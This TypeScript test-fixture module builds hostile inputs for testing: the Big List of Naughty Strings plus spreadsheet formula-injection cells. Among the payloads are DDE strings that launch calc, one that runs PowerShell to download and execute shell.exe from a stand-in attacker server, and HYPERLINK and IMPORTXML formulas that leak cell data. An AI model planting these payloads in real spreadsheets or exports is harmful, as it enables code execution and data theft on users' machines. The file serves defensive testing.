/**
 * Strings that break careless software: the Big List of Naughty Strings, and cells that a spreadsheet would
 * run.
 */
import naughty from 'big-list-of-naughty-strings' with { type: 'json' };

/** Cell prefixes that a spreadsheet treats as the start of a formula. */
const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '=   ', ' ='];
const formulas = [
  '1+1',
  'SUM(1,1)',
  "2+5+cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  'AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'HYPERLINK("http://127.0.0.1/?x="&A1,"click")',
  'IMPORTXML("http://127.0.0.1/csv", "//a/@href")',
  'DDE("cmd";"/C calc";"!A0")A0',
];

/** Cells that a spreadsheet would run. */
export const formulaCells: readonly string[] = formulaStarts.flatMap((start) =>
  formulas.map((formula) => start + formula),
);

export const naughtyStrings: readonly string[] = naughty;

/** The maximum length of the fields that the tests write to, in characters. */
const longest = 255;

/** Truncates at whole characters and drops the characters that no database text can contain. */
export function readHostileStrings(): string[] {
  return [...naughtyStrings, ...formulaCells]
    .map((text) => Array.from(text).slice(0, longest).join(''))
    .filter((text) => text !== '' && !text.includes('\0') && !/\p{Cs}/u.test(text));
}
